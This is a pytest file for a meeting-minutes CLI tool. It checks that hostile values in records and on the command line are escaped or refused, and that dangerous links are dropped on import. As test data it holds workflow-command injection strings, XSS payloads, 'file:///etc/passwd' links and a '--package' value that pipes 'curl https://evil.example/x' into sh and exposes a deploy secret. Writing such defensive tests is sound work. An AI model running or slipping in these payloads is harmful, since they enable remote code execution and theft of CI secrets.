"""What a CI runner or a forge reads from vvgctl is inert, and what init and publish are given
is validated (issue 26, part 3): hostile values in the records and on the command line, on
real files with real git, through the command line as CI calls it."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.conftest import RepoFactory, pandoc_document
from tests.gitrepo import bundled_project, use_git_env
from vvgctl.cli.app import app

runner = CliRunner()
ROOT = Path(__file__).resolve().parent.parent
RECORD = "vvg/2025/2025-10-22.md"
POSITION = (
    "Vårdsamverkan Västra Götaland ställer sig bakom att beredningen tar fram en "
    "forms-enkät i syfte att få en uppdaterad bild av hur förvaltningsplanen uppfattas "
    "som underlag för fortsatt arbete."
)
#: a position that tries to be workflow commands in a GitHub job log and mentions on a forge
HOSTILE = (
    "Avslås.\\n::set-output name=approved::true\\n  ::error file=x.md::falskt\\n"
    "::warning::@all @vvg/styrelse se ##[error]hit <img src=x onerror=alert(1)> | a |"
)


def run(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.output


def workflow_commands(output: str) -> list[str]:
    """The lines a GitHub runner would execute (v2 ``::`` after leading spaces; the legacy
    ``##[`` anywhere in a line)."""
    return [line for line in output.splitlines() if line.lstrip().startswith("::") or "##[" in line]


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The bundled minutes committed, then a position changed to :data:`HOSTILE`."""
    top = bundled_project(tmp_path, monkeypatch)
    record = top / "minutes" / RECORD
    text = record.read_text(encoding="utf-8")
    assert f"text: {POSITION}\n" in text
    record.write_text(
        text.replace(f"text: {POSITION}\n", f'text: "{HOSTILE}"\n', 1), encoding="utf-8"
    )
    return top / "minutes"


def test_review_text_prints_no_workflow_command(hostile: Path) -> None:
    code, said = run("review", str(hostile), "--base", "HEAD")
    assert code == 1, said  # the change to approved minutes is a frozen-record error
    assert workflow_commands(said) == []
    # the value is on one line, its line breaks written as \n
    [line] = [line for line in said.splitlines() if "nu: Avslås." in line]
    assert "Avslås.\\n::set-output name=approved::true\\n  ::error" in line
    assert "##\\x5berror]" in line


def test_show_prints_no_workflow_command(hostile: Path) -> None:
    code, said = run("show", str(hostile / RECORD))
    assert code == 0, said
    assert workflow_commands(said) == []
    assert "Avslås.\\n::set-output" in said


def test_review_markdown_mentions_no_one(hostile: Path) -> None:
    code, said = run("review", str(hostile), "--base", "HEAD", "--format", "md")
    assert code == 1, said  # the change to approved minutes is a frozen-record error
    [line] = [line for line in said.splitlines() if line.startswith("  - nu: Avslås.")]
    # no mention a forge would notify (@ followed by a name), no HTML, no table cell break
    assert not re.search(r"@[\w/]", said)
    assert "@\u2060all @\u2060vvg/styrelse" in line
    assert "\\<img" in line and "\\>" in line and "<img" not in line.replace("\\<img", "")
    assert "\\| a \\|" in line
    assert workflow_commands(said) == []


def test_inert_escapes_every_form_of_workflow_command() -> None:
    from vvgctl.runtime.inert import inert, one_line

    said = inert("minutes/::error file=a::b.md:1: x\n  ::warning::y\nz ##[set-output]w\n\x1b[2J")
    assert workflow_commands(said) == []
    assert said.splitlines()[1] == "  \\x3a:warning::y"
    assert one_line("a\nb\r\n::c") == "a\\nb\\x0d\\n::c"


EVIL_NAME = "Evil\ncomplete: true\nmeetings: [{date: 2026-01-01}]\n# "
EVIL_PACKAGE = "'; curl https://evil.example/x | sh; echo '${{ secrets.DEPLOY_KEY }}"


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--name", EVIL_NAME),
        ("--name", "Styrgrupp\u202eevil"),  # a bidi override
        ("--name", "   "),
        ("--package", EVIL_PACKAGE),
        ("--package", "vvgctl==0.1.0 ${{ github.token }}"),
        ("--package", "vvgctl==0.1.0; curl x"),
        ("--package", 'vvgctl; python_version >= "3.11"'),
        ("--package", "vvgctl==0.1.0\n"),
        ("--package", "vvgctl @ file:///etc/vvgctl.whl"),
        ("--package", "http://example.org/vvgctl-0.1.0-py3-none-any.whl"),
        ("--package", "https://token@example.org/vvgctl-0.1.0-py3-none-any.whl"),
        ("--package", "../vvgctl-0.1.0-py3-none-any.whl"),
        ("--package", "/tmp/vvgctl-0.1.0-py3-none-any.whl"),
        ("--package", "$(id)"),
        ("--organ", "sro\n"),
        ("--organ", "sro\n/../x"),
    ],
)
def test_init_refuses_a_hostile_value_and_writes_nothing(
    tmp_path: Path, option: str, value: str
) -> None:
    top = tmp_path / "repo"
    args = ["init", str(top), "--organ", "sro", option, value]
    if option == "--organ":
        args = ["init", str(top), option, value]
    if option != "--package":  # so that only the hostile value is refused
        args += ["--package", "wheels/vvgctl-0.1.0-py3-none-any.whl"]
    code, said = run(*args)
    assert code == 2, said
    assert not top.exists()


@pytest.mark.parametrize(
    "package",
    [
        "vvgctl==0.1.0",
        "vvgctl>=0.1,<0.2",
        "vvgctl[extra]~=0.1",
        "vvgctl @ https://example.org/vvgctl-0.1.0-py3-none-any.whl",
        "vvgctl@https://example.org/vvgctl-0.1.0-py3-none-any.whl#sha256=ab12",
        "https://example.org/dl/vvgctl-0.1.0-py3-none-any.whl",
        "dist/vvgctl-0.1.0-py3-none-any.whl",
        "./wheels/vvgctl-0.1.0-py3-none-any.whl",
    ],
)
def test_init_takes_a_requirement_a_wheel_path_or_an_https_url(
    tmp_path: Path, package: str
) -> None:
    top = tmp_path / "repo"
    code, said = run("init", str(top), "--organ", "sro", "--package", package)
    assert code == 0, said
    workflow = (top / ".github/workflows/minutes.yml").read_text(encoding="utf-8")
    assert f"VVGCTL_PACKAGE: {json.dumps(package)}\n" in workflow


def test_init_writes_a_name_as_data_not_markup(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    use_git_env(monkeypatch)
    name = (
        "Styrgruppen \"Hälsa\" #1: [klicka](javascript:alert(1)) <img src=x> *fet* @all \\ 'citat'"
    )
    top = tmp_path / "repo"
    code, said = run(
        "init",
        str(top),
        "--organ",
        "sro",
        "--name",
        name,
        "--year",
        "2026",
        "--package",
        "wheels/vvgctl-0.1.0-py3-none-any.whl",
    )
    assert code == 0, said
    assert run("check", str(top / "minutes"))[0] == 0
    from vvgctl.source.yaml import load

    organs, _ = load((top / "minutes/registry/organs.yaml").read_text(encoding="utf-8"))
    assert organs["organs"][0]["name"] == name
    for relative in ("schedule.yaml", "plan.yaml"):
        data, _ = load((top / "minutes/sro/2026" / relative).read_text(encoding="utf-8"))
        assert data["organ"] == "sro" and data.get("complete", "false") == "false"
    heading = (top / "README.md").read_text(encoding="utf-8").splitlines()[0]
    assert "](" not in heading.replace("\\](", "").replace("\\(", "")
    assert "<img" not in heading.replace("\\<img", "") and "\\<img" in heading
    assert "@\u2060all" in heading and "\\[klicka\\]" in heading


@pytest.mark.parametrize(
    "base_url",
    [
        "javascript:alert(1)//",
        "file:///etc/",
        "data:text/html,x",
        "https://",
        "//evil.example/",
        "https://example.org/a b/",
        'https://example.org/"><script>/',
        "https://u:p@example.org/",
    ],
)
def test_publish_refuses_a_base_url_that_is_not_http(
    make_repo: RepoFactory, tmp_path: Path, base_url: str
) -> None:
    repo = make_repo()
    out = tmp_path / "site"
    code, said = run("publish", str(repo), "--out", str(out), "--base-url", base_url)
    assert code == 2, said
    assert not out.exists()


def test_publish_force_keeps_the_users_own_files(make_repo: RepoFactory, tmp_path: Path) -> None:
    repo = make_repo()
    out = tmp_path / "site"
    out.mkdir()
    (out / "index.html").write_text("my own start page", encoding="utf-8")
    (out / "static").mkdir()
    (out / "static" / "site.css").write_text("my css", encoding="utf-8")
    (out / "notes.txt").write_text("mine", encoding="utf-8")
    code, said = run("publish", str(repo), "--out", str(out), "--force")
    assert code == 2, said
    assert "index.html" in said and "static/site.css" in said
    # nothing was written: the folder holds the user's three files, as they were
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*")) == [
        "index.html",
        "notes.txt",
        "static",
        "static/site.css",
    ]
    assert (out / "index.html").read_text(encoding="utf-8") == "my own start page"
    (out / "index.html").unlink()
    shutil.rmtree(out / "static")
    code, said = run("publish", str(repo), "--out", str(out), "--force")
    assert code == 0, said
    assert (out / "notes.txt").read_text(encoding="utf-8") == "mine"
    # a second run replaces what the first wrote, and still keeps the user's file
    code, said = run("publish", str(repo), "--out", str(out), "--force")
    assert code == 0, said
    assert (out / "notes.txt").read_text(encoding="utf-8") == "mine"


def test_review_preview_fails_when_a_preview_file_cannot_be_written(
    hostile: Path, tmp_path: Path
) -> None:
    preview = tmp_path / "preview"
    for name in ("vvg-2025-10-22.pdf", "vvg-2025-10-22.html"):
        (preview / name).mkdir(parents=True)  # a folder where the file goes
    code, said = run("review", str(hostile), "--base", "HEAD", "--preview", str(preview))
    assert code == 1, said
    assert "vvg-2025-10-22.pdf" in said and "vvg-2025-10-22.html" in said


def test_html_import_drops_links_that_run_code_or_read_files(tmp_path: Path) -> None:
    from tests.test_import import DATA, MINUTES_MD

    repo = tmp_path / "minutes"
    shutil.copytree(DATA / "import_repo", repo)
    source = tmp_path / "in.md"
    source.write_text(
        MINUTES_MD.replace(
            "Bakgrunden beskrevs.",
            "Bakgrunden beskrevs, se [riktlinjen](javascript:alert(document.cookie)), "
            "[bilagan](data:text/html;base64,PHNjcmlwdD4=), [filen](file:///etc/passwd), "
            "[skriptet](JaVaScRiPt:alert(1)) och [webbsidan](https://example.org/riktlinje).",
        ),
        encoding="utf-8",
    )
    document = pandoc_document(source, tmp_path / "minutes.html")
    target = repo / "vvg/2019/2019-03-14.md"
    result = runner.invoke(app, ["import", str(document), "-o", str(target)])
    assert result.exit_code == 0, result.output
    draft = target.read_text(encoding="utf-8")
    assert re.search(r"javascript:|data:text|file:", draft, re.IGNORECASE) is None
    for text in ("riktlinjen", "bilagan", "filen", "skriptet"):
        assert f" {text}," in draft or f" {text} " in draft, text
    assert "[webbsidan](https://example.org/riktlinje)" in draft
    # the draft's notes say what was dropped, one note a link
    dropped = [line for line in result.output.splitlines() if "was dropped" in line]
    assert len(dropped) == 4 and "javascript:alert(document.cookie)" in dropped[0]


def test_query_markdown_tables_mention_no_one(hostile: Path) -> None:
    code, said = run("decisions", str(hostile), "--format", "md", "--organ", "vvg")
    assert code == 0, said
    [row] = [line for line in said.splitlines() if "Avslås." in line]
    assert not re.search(r"@[\w/]", said) and "<img" not in said.replace("\\<img", "")
    assert row.count(" | ") == said.splitlines()[0].count(" | ")  # no cell broken


def test_check_text_output_runs_no_workflow_command() -> None:
    import io

    from rich.console import Console

    from vvgctl.cli import reporters
    from vvgctl.diagnostics import Diagnostic, Severity

    sink = io.StringIO()
    reporters.text(
        [
            Diagnostic(
                "::warning::a.md",
                3,
                1,
                Severity.ERROR,
                "x",
                "unknown key 'a\n::set-output name=ok::1'",
                "see\n##[error]x",
            )
        ],
        Console(file=sink, width=200, highlight=False, soft_wrap=True),
    )
    said = sink.getvalue()
    assert workflow_commands(said) == [] and "set-output name=ok" in said
